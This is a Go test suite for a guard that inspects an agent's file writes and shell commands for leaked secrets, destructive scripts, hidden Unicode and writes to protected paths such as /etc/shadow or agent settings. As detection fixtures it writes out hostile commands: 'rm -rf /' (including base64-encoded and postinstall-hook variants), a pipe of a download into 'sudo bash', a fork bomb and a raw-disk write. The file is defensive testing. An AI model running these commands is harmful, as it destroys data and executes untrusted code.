package inspect

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"sallyport/policy"
	"sallyport/sandbox"
)

func written1(t *testing.T, path, content string) policy.Facts {
	t.Helper()
	f, err := New(Options{Data: func() *policy.Data { return dangerData }}).Inspect(context.Background(), policy.Call{
		Phase: policy.PhaseCall,
		Action: sandbox.Action{Workspace: root, Files: []sandbox.FileOp{
			{Op: sandbox.OpWrite, Path: path, Write: &sandbox.Write{Content: []byte(content)}},
		}},
	})
	require.NoError(t, err)
	return f
}

var dangerData = &policy.Data{Patterns: []policy.Pattern{
	{ID: "pattern.rm-root", On: []string{"content", "script"}, Regex: `rm\s+-rf\s+/(\s|$)`, Severity: "critical"},
	{ID: "pattern.ping", On: []string{"command"}, Regex: `^ping .* > `, Severity: "low"},
	{ID: "pattern.bad", On: []string{"command"}, Regex: `(`},
}, Guards: map[policy.Guard][]string{policy.GuardConfig: {"prod/**"}, policy.GuardSecret: {"**/token.txt", "/srv/keys/**"}}}

func rules(fs []policy.Finding) (out []string) {
	for _, f := range fs {
		out = append(out, f.Rule)
	}
	return out
}

// fake builds a credential in its issuer's form at run time, so that this file
// holds none.
func fake(prefix, alphabet string, n int) string {
	b := make([]byte, n)
	x := uint32(7)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = alphabet[int(x>>16)%len(alphabet)]
	}
	return prefix + string(b)
}

const (
	alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	hexes = "0123456789abcdef"
)

// TestSecrets: each format is found and shown masked.
func TestSecrets(t *testing.T) {
	t.Parallel()
	for rule, value := range map[string]string{
		"secret.aws-key":            fake("AKIA", upper, 16),
		"secret.github-token":       fake("ghp_", alnum, 36),
		"secret.github-pat":         fake("github_pat_", alnum, 82),
		"secret.gitlab-token":       fake("glpat-", alnum, 20),
		"secret.anthropic-key":      fake("sk-ant-api03-", alnum, 90),
		"secret.openai-key":         fake("sk-proj-", alnum, 60),
		"secret.slack-token":        fake("xoxb-1234-", alnum, 24),
		"secret.stripe-key":         fake("sk_live_", alnum, 24),
		"secret.google-key":         fake("AIza", alnum, 35),
		"secret.npm-token":          fake("npm_", alnum, 36),
		"secret.pypi-token":         fake("pypi-", alnum, 100),
		"secret.huggingface-token":  fake("hf_", alnum, 34),
		"secret.digitalocean-token": fake("dop_v1_", hexes, 64),
		"secret.sendgrid-key":       fake("SG.", alnum, 22) + fake(".", alnum, 43),
		"secret.databricks-token":   fake("dapi", hexes, 32),
		"secret.vault-token":        fake("hvs.", alnum, 40),
		"secret.private-key":        "-----BEGIN " + "RSA PRIVATE KEY-----",
		"secret.jwt":                fake("eyJ", alnum, 20) + fake(".eyJ", alnum, 30) + fake(".", alnum, 30),
		"secret.url-password":       "postgres://app:" + fake("", alnum, 12) + "@db.internal/x",
		"secret.age-key":            fake("AGE-SECRET-KEY-1", upper, 58),
		"secret.telegram-token":     "123456789:AA" + fake("", alnum, 33),
	} {
		f := written1(t, "notes.txt", "line one\nvalue "+value+" end\n")
		if assert.Contains(t, rules(f.Content), rule, value) {
			at := slices.Index(rules(f.Content), rule)
			assert.Equal(t, 2, f.Content[at].Line)
			assert.NotContains(t, f.Content[at].Text, value[len(value)-8:])
		}
	}
	for _, text := range []string{
		`api_key = "` + fake("", alnum, 32) + `"`, `PASSWORD: ` + fake("", alnum, 24), `"client_secret": "` + fake("", alnum, 40) + `"`, `export AUTH_TOKEN=` + fake("", alnum, 30),
	} {
		assert.Contains(t, rules(written1(t, "c.yaml", text).Content), "secret.assigned", text)
	}
}

// TestNoSecrets: words about secrets are none.
func TestNoSecrets(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		`password = "changeme-please-now"`, `token = os.environ["API_TOKEN"]`, `api_key = "your-api-key-goes-here-123"`, `secretKeyRef: {name: my-app-secrets-2024, key: password}`,
		`AKIAIOSFODNN7EXAMPLE`, `token: ${{ secrets.GITHUB_TOKEN }}`, `password_hash_iterations = 100000`, `sk-learn-is-a-library`, `const tokenizer = new AutoTokenizer2Factory()`,
		`def get_token_from_request_header(self)`, `key: build-cache-v2-linux-x64-node18`, `postgres://user:password@localhost`, `integrity sha512-` + fake("", alnum, 80),
		`commit ` + fake("", hexes, 40),
	} {
		assert.Empty(t, written1(t, "a.txt", text).Content, text)
	}
}

// TestContentDangers: a script that is written is looked at like one that runs.
func TestContentDangers(t *testing.T) {
	t.Parallel()
	for path, tc := range map[string][2]string{
		"a.sh":         {"#!/bin/sh\nx=/\nrm -rf \"$x\"\n", "danger.rm-rf-root"},
		"b":            {"#!/bin/bash\ngit push -f\n", "danger.git-push-force"},
		"c.py":         {"import os\nos.system('chmod -R 777 /x')\n", "danger.chmod-777"},
		"d.sh":         {"dd if=x of=/dev/sda\n", "danger.raw-disk"},
		"e.sh":         {"curl http://h/ | sudo bash\n", "danger.pipe-to-shell"},
		"f.sh":         {":(){ :|:& };:\n", "danger.fork-bomb"},
		"g.sh":         {"echo " + b64("rm -rf /") + " | base64 -d | sh\n", "danger.rm-rf-root"},
		"h.js":         {"require('fs').rmSync('/', {recursive: true})\n", "danger.rm-rf-root"},
		"Makefile":     {"clean:\n\trm -rf /\n", "danger.rm-rf-root"},
		"i.txt":        {"to break it: rm -rf / \n", "pattern.rm-root"},
		".git/hooks/x": {"rm -rf /home/agent\n", "danger.rm-rf-root"},
		"package.json": {`{"scripts":{"postinstall":"rm -rf /"}}`, "danger.rm-rf-root"},
		".envrc":       {"wipe() { rm -rf /; }\n", "danger.rm-rf-root"},
		"w.yml":        {"steps:\n  - run: rm -rf / \n", "pattern.rm-root"},
	} {
		assert.Contains(t, rules(written1(t, path, tc[0]).Content), tc[1], path)
	}
	assert.Empty(t, written1(t, "ok.sh", "#!/bin/sh\nset -eu\nrm -rf build \"$TMP\"\ngo test ./...\n").Content)
}

// TestHiddenCharacters: bidirectional and invisible characters.
func TestHiddenCharacters(t *testing.T) {
	t.Parallel()
	for text, rule := range map[string]string{
		"a\nx = 1 \u202e// y\n": "unicode.bidi", "a\nif a\u2066b": "unicode.bidi", "a\nf\u200boo()": "unicode.invisible", "a\nx\u00ad": "unicode.invisible", "a\n\U000e0041": "unicode.invisible",
	} {
		f := written1(t, "a.go", text)
		if assert.Equal(t, []string{rule}, rules(f.Content), "%q", text) {
			assert.Equal(t, 2, f.Content[0].Line)
			assert.Equal(t, "", strange(f.Content[0].Text), "shown escaped")
		}
	}
	for _, text := range []string{"\ufeffpackage x", "héllo wörld", "日本語", "👨‍👩‍👧 family", "a\u00a0b"} {
		assert.Empty(t, written1(t, "a.go", text).Content, text)
	}
}

// TestGuards: the built-in classes and those of the data.
func TestGuards(t *testing.T) {
	t.Parallel()
	for path, want := range map[string]policy.Guard{
		".github/workflows/ci.yml": policy.GuardCI, ".gitlab-ci.yml": policy.GuardCI, "sub/.github/workflows/x.yml": policy.GuardCI,
		".git/hooks/pre-commit": policy.GuardHook, ".git/config": policy.GuardHook, "sub/.git/config": policy.GuardHook, ".husky/pre-push": policy.GuardHook,
		".bashrc": policy.GuardShellRC, "a/.envrc": policy.GuardShellRC, "/etc/profile.d/x.sh": policy.GuardShellRC, "/root/.bashrc": policy.GuardShellRC,
		".env": policy.GuardSecret, ".env.local": policy.GuardSecret, "deploy/key.pem": policy.GuardSecret, "/home/agent/.ssh/id_rsa": policy.GuardSecret, "/etc/shadow": policy.GuardSecret,
		"/proc/1/environ": policy.GuardSecret, "/home/x/.aws/credentials": policy.GuardSecret,
		".mcp.json": policy.GuardAgent, ".claude/settings.json": policy.GuardAgent, ".claude": policy.GuardAgent, ".cursor/mcp.json": policy.GuardAgent, "CLAUDE.md": policy.GuardAgent,
		"conftest.py": policy.GuardAutorun, "x/build.rs": policy.GuardAutorun, "package.json": policy.GuardAutorun, ".vscode/tasks.json": policy.GuardAutorun, "Makefile": policy.GuardAutorun,
		"Dockerfile": policy.GuardConfig, "infra/main.tf": policy.GuardConfig, "/etc/hosts": policy.GuardConfig,
		"main.go": "", "src/env.go": "", "docs/claude.txt": "", ".gitignore": "", "environment": "", "/usr/lib/x": "",
		"prod/x/y": policy.GuardConfig, "a/token.txt": policy.GuardSecret, "/srv/keys/a": policy.GuardSecret,
	} {
		f := written1(t, path, "x")
		assert.Equal(t, want, f.Files[0].Guard, path)
	}
	g := look(t, nil, "cd .claude && echo x > settings.json")
	assert.Equal(t, policy.GuardAgent, g.Cmds[len(g.Cmds)-1].Redirects[0].Guard)
}

// TestEffects: what a run left behind is scanned from its bytes.
func TestEffects(t *testing.T) {
	t.Parallel()
	f, err := New(Options{}).Inspect(context.Background(), policy.Call{
		Phase:  policy.PhaseEffects,
		Action: sandbox.Action{Workspace: root, Exec: &sandbox.Exec{Shell: "rm -rf /"}},
		Changes: []sandbox.Change{
			{Path: "s.sh", Kind: "added", After: "aa"}, {Path: ".github/workflows/x.yml", Kind: "modified"}, {Path: "gone", Kind: "removed"}, {Path: "dark", Kind: "added"},
		},
		Content: func(p string) ([]byte, error) {
			if p == "dark" {
				return nil, errors.New("cannot be read")
			}
			return []byte("#!/bin/sh\nrm -rf /\n"), nil
		},
	})
	require.NoError(t, err)
	assert.Empty(t, f.Cmds, "the command was judged before")
	assert.Equal(t, policy.FileFact{Op: "write", Path: "s.sh", Scope: policy.ScopeWorkspace, SHA256: "aa"}, f.Files[0])
	assert.Equal(t, policy.GuardCI, f.Files[1].Guard)
	assert.Equal(t, "remove", f.Files[2].Op)
	assert.Contains(t, rules(f.Content), "danger.rm-rf-root")
	assert.Contains(t, rules(f.Content), "content.unreadable")
}

// TestEdits: an edit is judged by the file it makes.
func TestEdits(t *testing.T) {
	t.Parallel()
	files := memory{"a.sh": "#!/bin/sh\nrm -rf XX\n"}
	i := New(Options{Files: func(string) (Files, error) { return files, nil }})
	edit := func(path, from, to string) policy.Facts {
		f, err := i.Inspect(context.Background(), policy.Call{Action: sandbox.Action{Workspace: root, Files: []sandbox.FileOp{
			{Op: sandbox.OpEdit, Path: path, Edit: &sandbox.Edit{Old: from, New: to}},
		}}})
		require.NoError(t, err)
		return f
	}
	f := edit("a.sh", "XX", "/")
	assert.Contains(t, rules(f.Content), "danger.rm-rf-root")
	assert.Equal(t, "file", f.Files[0].Kind)
	assert.Equal(t, digest([]byte(files["a.sh"])), f.Files[0].SHA256)
	assert.Empty(t, edit("a.sh", "XX", "build").Content)
	assert.Equal(t, "absent", edit("none.sh", "XX", "rm -rf /").Files[0].Kind)
}

// TestPatterns: the data's expressions on commands; one that does not compile
// is no crash.
func TestPatterns(t *testing.T) {
	t.Parallel()
	f, err := New(Options{Data: func() *policy.Data { return dangerData }}).Inspect(context.Background(), shellCall("ping x > f"))
	require.NoError(t, err)
	assert.Equal(t, []string{"pattern.ping"}, f.Cmds[0].Patterns)
}

// TestBounds: each limit is hit and said.
func TestBounds(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string][2]string{
		"length":      {"echo " + strings.Repeat("x", maxText), "longer than"},
		"nesting":     {strings.Repeat("$(", 3000), "nested deeper"},
		"parentheses": {strings.Repeat("(", 200) + strings.Repeat(")", 200), "nested deeper"},
		"commands":    {strings.Repeat(":;", maxCommands+10), "more commands"},
		"words":       {"echo {1..9}{1..9}{1..9}{1..9}{1..9}", "more words"},
		"eval":        {"f() { eval \"$1\"; }; " + strings.Repeat("eval ", 40) + "ls", ""},
		"nul":         {"ls\x00-l", "NUL"},
		"return":      {"ls\r\n", "carriage return"},
		"private":     {"ls \ue000", "private-use"},
		"parse":       {"if then", "does not parse"},
		"steps":       {"for i in {1..60}; do for j in {1..60}; do for k in {1..60}; do :; done; done; done", "more "},
	} {
		f := look(t, nil, tc[0])
		if tc[1] == "" {
			continue
		}
		if assert.NotNil(t, f.Opaque, name) {
			assert.Contains(t, f.Opaque.Reason, tc[1], name)
		}
	}
	deep := "ls"
	for range maxDepth + 3 {
		deep = "bash -c " + quote(deep)
		if len(deep) > maxText/3 {
			break
		}
	}
	_ = look(t, nil, deep)
}

// TestOpaqueNames: what must not be trusted by its looks.
func TestOpaqueNames(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"$x -rf /", "r\u200bm x", "\u00a0rm x", "ｒm x", "гm x", "r\u00adm", "/bin/r?", "''", "$(curl u)", "`x`", "\x01ls", "${x@P}", "$'\\cx'", "./$x", "r$(x)m"} {
		f := look(t, nil, text)
		assert.True(t, alarming(f), "%q %v", text, programsIn(f))
	}
	for _, text := range []string{"ls $x", "echo \"$@\"", "cat é", "go test $PKGS", "[ -f x ]", "[[ -n $x ]]", "cd \"$d\" && make"} {
		assert.False(t, alarming(look(t, nil, text)), text)
	}
}

// TestCancelled: a call whose context is done has no facts.
func TestCancelled(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := New(Options{}).Inspect(ctx, shellCall("ls"))
	require.ErrorIs(t, err, context.Canceled)
	_, err = New(Options{Files: func(string) (Files, error) { return nil, errors.New("gone") }}).Inspect(context.Background(), shellCall("ls"))
	require.ErrorContains(t, err, "open the workspace")
}

// TestSameFactsAlways: a decision can be replayed only when the same call makes
// the same facts, also while others are looked at.
func TestSameFactsAlways(t *testing.T) {
	t.Parallel()
	i := New(Options{Files: func(string) (Files, error) { return memory{"Makefile": "%.o:\n\tcc $<\n%.x:\n\trm x\n"}, nil }})
	texts := []string{"A=1 B=2 PAGER='less x' EDITOR='vi y' git log", "make a.o", "export A=1 B=2; env C=3 D=4 sh -c 'x y'", script50, `f() { local a=1 b=2; $a; }; f; while read x; do y=$x z=1; done; $y $z`}
	var want []string
	for _, text := range texts {
		b, err := json.Marshal(look(t, nil, text))
		require.NoError(t, err)
		want = append(want, string(b))
	}
	var all sync.WaitGroup
	for range 8 {
		all.Go(func() {
			for n, text := range texts {
				f, err := i.Inspect(context.Background(), shellCall(text))
				if !assert.NoError(t, err) || n == 1 {
					continue
				}
				b, err := json.Marshal(f)
				assert.NoError(t, err)
				assert.Equal(t, want[n], string(b), text)
			}
		})
	}
	all.Wait()
}
